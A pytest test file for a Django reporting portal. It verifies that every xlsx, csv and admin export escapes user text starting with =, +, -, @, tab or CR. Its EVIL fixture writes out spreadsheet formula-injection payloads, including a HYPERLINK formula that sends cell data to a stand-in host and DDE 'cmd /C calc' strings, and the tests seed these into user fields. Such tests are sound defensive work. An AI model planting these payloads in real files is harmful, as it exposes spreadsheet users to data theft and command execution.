"""No download the portal offers lets a user's text run as a spreadsheet formula.

The database is seeded with user text starting with = + - @ tab and CR everywhere a user can type
(unit names, indicator names, plan titles and tasks, comments, criteria, usernames …); then every
download is fetched as a user would and every cell is read back:

- xlsx (openpyxl, every sheet): no formula cell at all, and a text cell starting with one of those
  characters is an inline/shared string with the quote-prefix flag (Excel and LibreOffice show it
  as text, unchanged);
- csv: no field starts with one of them, unless it carries the apostrophe or is only a number.
"""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django import forms
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import Workbook, load_workbook

from indicators import jobs
from indicators.models import Indicator, ReportValue
from indicators.testing import make_period, make_report
from parc.lib.xlsx import FORMULA_STARTS
from parc.testing import admin_export
from plans.models import PlanTask, Target
from plans.testing import make_plan, make_target
from scoring.testing import SMALL_SET, appraise, make_set
from units.models import Level, Role
from units.testing import grant, make_unit

pytestmark = pytest.mark.django_db

EVIL = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*(?:[eE][+-]?\d+)?\Z")


def _unsafe_xlsx_cells(content):
    wb = load_workbook(io.BytesIO(content))
    bad, texts = [], set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append((ws.title, cell.coordinate, cell.value))
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    texts.add(cell.value[0])
                    if cell.data_type != "s" or not cell.quotePrefix:
                        bad.append((ws.title, cell.coordinate, cell.value))
    return bad, texts


def _unsafe_csv_fields(content):
    text = content.decode("utf-8-sig")
    bad, escaped = [], set()
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if field.startswith("'") and field[1:].startswith(FORMULA_STARTS):
                escaped.add(field[1])
            elif field.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(field):
                bad.append(field)
    return bad, escaped


def _body(response):
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def seeded(tree, reviewer, editor):
    """User text that starts like a formula, in every kind of field a download shows."""
    evil = list(EVIL.values())
    district = tree["district_a"]
    communes = [
        make_unit(f"991{10 + i}", name, Level.COMMUNE, district) for i, name in enumerate(evil)
    ]  # fmt: skip
    Indicator.objects.filter(code="TTHC_ONTIME").update(name_vi=EVIL["+"])
    Indicator.objects.filter(code="TTHC_ONLINE").update(name_vi=EVIL["@"])
    period = make_period(2026, "Q2", closes=datetime.date(2099, 12, 31))
    plan = make_plan(district, title=EVIL["="], decision_number=EVIL["-"])
    make_target(plan, "TTHC_ONTIME", 90, level=Level.COMMUNE)
    target = make_target(plan, "TTHC_ONLINE", Decimal("55.5"), unit=communes[0])
    type(target).objects.filter(pk=target.pk).update(note=EVIL["\r"])
    PlanTask.objects.create(plan=plan, title=EVIL["\t"], lead_unit=communes[1])
    for unit, text in zip(communes, evil, strict=True):
        report = make_report(unit, period, "submitted", TTHC_ONTIME=(9, 10))
        ReportValue.objects.filter(report=report).update(comment=text)
    evil_user = get_user_model().objects.create_user("@canbo", password="x-password-1", first_name=EVIL["="])
    grant(evil_user, communes[2], Role.VIEWER)

    spec = [(code, EVIL["="] if code == "2.3" else (EVIL["-"] if code == "1.1" else title), m, s)
            for code, title, m, s in SMALL_SET]  # fmt: skip
    cset = make_set(district, spec=spec)
    type(cset).objects.filter(pk=cset.pk).update(title=EVIL["@"])
    appraise(cset, communes[0], {"1.1": 12, "1.2": 8, "2.1": 25, "2.2": 20}, survey={"2.3": 15})
    return {"district": district, "communes": communes, "period": period, "cset": cset}


def test_every_xlsx_the_portal_builds_writes_formula_like_text_as_text(client, seeded, reviewer, editor):
    district, period, cset = seeded["district"], seeded["period"], seeded["cset"]
    client.force_login(reviewer)
    downloads = {
        "dashboard": client.get(reverse("dashboards:export", args=[district.pk]), {"year": 2026}),
        "criteria": client.get(reverse("scoring:criteria-export", args=[cset.pk])),
        "survey": client.get(reverse("scoring:survey-export", args=[cset.pk])),
        "results": client.get(reverse("scoring:results-export", args=[cset.pk])),
        "scorecard": client.get(reverse("scoring:scorecard-export", args=[cset.pk, seeded["communes"][0].pk])),
    }
    client.force_login(editor)
    downloads["import template"] = client.get(
        reverse("indicators:import-template"), {"don_vi": district.pk, "ky": period.code}
    )
    downloads["rejected rows"] = _rejected_rows(client, editor, seeded)

    texts = set()
    for name, response in downloads.items():
        bad, found = _unsafe_xlsx_cells(_body(response) if not isinstance(response, bytes) else response)
        assert bad == [], name
        assert found, name  # the seeded text reached this file: a scan without it would prove nothing
        texts |= found
    # Every dangerous start was written (a CR is read back from the XML as a line feed: text either way).
    assert texts >= set(EVIL) - {"\r"}


def _rejected_rows(client, editor, seeded):
    wb = Workbook()
    ws = wb.active
    ws.append(["unit_code", "period", "indicator_code", "numerator", "denominator", "value", "comment"])
    for unit, text in zip(seeded["communes"], EVIL.values(), strict=True):
        ws.append([unit.code, seeded["period"].code, "TTHC_ONLINE", 12, 10, None, text])  # 12 > 10: rejected
    buffer = io.BytesIO()
    wb.save(buffer)
    job = jobs.job_create(user=editor, upload=SimpleUploadedFile("quy2.xlsx", buffer.getvalue()), partial=True)
    jobs.work(once=True)
    job.refresh_from_db()
    if job.can_confirm:
        jobs.job_confirm(job=job, user=editor)
        jobs.work(once=True)
        job.refresh_from_db()
    assert job.rejected, job.status
    return _body(client.get(reverse("indicators:import-rejected", args=[job.pk])))


def _export_admins():
    return sorted(
        (
            (model, model_admin)
            for model, model_admin in admin.site._registry.items()
            if isinstance(model_admin, ExportMixin)
        ),
        key=lambda pair: pair[0]._meta.label,
    )


def test_the_admin_offers_exactly_the_models_this_test_scans():
    assert [m._meta.label for m, _a in _export_admins()] == [
        "indicators.Indicator",
        "indicators.ReportValue",
        "indicators.ReportingPeriod",
        "plans.Plan",
        "plans.PlanTask",
        "plans.Target",
        "units.AdministrativeUnit",
        "units.Membership",
    ]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_every_admin_export_writes_formula_like_text_as_text(client, seeded, staff, kind):
    client.force_login(staff)
    escaped_or_text = set()
    for model, _model_admin in _export_admins():
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        form = client.get(url).context["form"]
        choices = {label: value for value, label in form.fields["format"].choices if value != ""}
        assert set(choices) == {"xlsx", "csv"}, choices  # no unescaped tsv, ods, html, xls
        data = {"format": choices[kind]}
        for name, field in form.fields.items():
            if isinstance(field, forms.BooleanField):
                data[name] = "on"
            elif name == "resource":
                data[name] = field.initial or 0
        content = _body(client.post(url, data))
        if kind == "xlsx":
            bad, found = _unsafe_xlsx_cells(content)
        else:
            bad, found = _unsafe_csv_fields(content)
        assert bad == [], model._meta.label
        escaped_or_text |= found
    assert escaped_or_text >= set(EVIL) - ({"\r"} if kind == "xlsx" else set())


def test_numbers_in_an_admin_xlsx_export_stay_numbers(client, seeded, staff):
    client.force_login(staff)
    sheet = load_workbook(io.BytesIO(admin_export(client, Target, "xlsx"))).active
    values = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    assert Decimal("55.5") in [Decimal(str(v)) for v in values if isinstance(v, (int, float))]
    assert "None" not in values  # an empty cell stays empty
